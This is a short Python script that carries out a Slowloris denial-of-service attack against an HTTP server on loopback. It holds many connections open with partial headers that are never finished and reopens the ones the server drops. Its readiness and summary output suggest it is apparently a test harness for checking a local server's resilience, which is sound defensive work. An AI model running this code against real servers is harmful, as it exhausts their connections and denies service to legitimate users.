#!/usr/bin/env python3
# Slowloris against an HTTP server on loopback, as any local user can:
#   slowloris.py PORT CONNS SECONDS [SOURCE_ADDR]
# keeps CONNS connections open, each sending a request line once, then one
# header line every 5 s and never the blank line that ends the headers; a
# connection the server dropped is opened again at the next tick.  Prints
# "ready" once the first round is open, and a summary at the end.
import signal
import socket
import sys
import time

port, conns, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
src = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.1"
socks = [None] * conns
opened = dropped = 0


def open_one():
    global opened
    s = socket.socket()
    s.settimeout(0.05)
    try:
        s.bind((src, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
    except OSError:
        s.close()
        return None
    opened += 1
    return s


end = time.monotonic() + seconds


def stop(*_):
    global end
    end = 0


signal.signal(signal.SIGINT, stop)
first = True
tick = 0
while time.monotonic() < end:
    for i in range(conns):
        s = socks[i]
        if s is not None:
            try:
                s.sendall(b"X-Slow-%d: %d\r\n" % (tick, i))
                continue
            except OSError:
                s.close()
                dropped += 1
        socks[i] = open_one()
    if first:
        print("ready: %d of %d open" % (sum(s is not None for s in socks), conns), flush=True)
        first = False
    tick += 1
    for _ in range(50):     # 5 s, ended early by SIGINT
        if time.monotonic() >= end:
            break
        time.sleep(0.1)
print("slowloris: %d connections opened, %d dropped by the server, %d open at the end"
      % (opened, dropped, sum(s is not None for s in socks)), flush=True)
